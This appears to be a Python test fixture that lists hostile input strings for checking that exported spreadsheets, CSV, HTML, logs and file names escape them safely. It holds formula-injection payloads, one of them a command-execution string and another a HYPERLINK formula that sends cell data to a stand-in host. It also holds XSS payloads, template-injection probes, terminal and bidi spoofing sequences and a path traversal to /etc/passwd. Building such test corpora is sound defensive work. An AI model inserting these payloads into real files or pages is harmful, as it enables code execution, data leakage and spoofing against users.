"""Names that come from elsewhere and mean harm: for every output, one corpus.

Each goes through tables, CSV, JSON, HTML, pictures, logs, mails and file names; none may be more than text
there.
"""

from __future__ import annotations

MARK = "mmdpwned"  # what a name would have to get past us to show

HOSTILE: tuple[str, ...] = (
    # Spreadsheets
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.test/?"&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001 - a full-width equals sign
    "＋1",  # noqa: RUF001 - a full-width plus
    "＠x",  # noqa: RUF001 - a full-width at
    "\u200b=1+1",
    "\ufeff=1+1",
    # CSV
    'say "no"',
    '","=1+1","',
    "a,b;c\td",
    "line\nbreak",
    "line\r\nbreak",
    "'single'",
    # Markup
    f"<script>document.title='{MARK}'</script>",
    f"<img src=x onerror=\"document.title='{MARK}'\">",
    f"<svg onload=\"document.title='{MARK}'\">",
    f"</title></text></svg></td></table><script>document.title='{MARK}'</script>",
    f'"><body onload="document.title=\'{MARK}\'">',
    f"' onmouseover='document.title=\"{MARK}\"",
    '<a href="javascript:alert(1)">x</a>',
    '<meta http-equiv="refresh" content="0;url=http://x.test/">',
    "<!-- comment",
    "]]>",
    "&lt;b&gt; &amp;amp; &#0;",
    "{{7*7}} ${7*7} #{7*7} {% x %} <%= 7*7 %>",
    "%s %(name)s {0} {self}",
    # Terminals and direction
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\x9b31m\x08\x7f",
    "\u202egnp.exe",
    "\u2066\u2067\u2069 isolate",
    "nul\x00byte",
    "line\u2028and\u2029paragraph",
    # Encodings and size
    "lone \ud800 surrogate",
    "\udfff",
    "z\u0300\u0301\u0302\u0303" * 20,
    "日本語 עברית العربية 😀",
    "x" * 10_000,
    "<" * 3_000,
    "../../etc/passwd",
    "",
    " ",
)
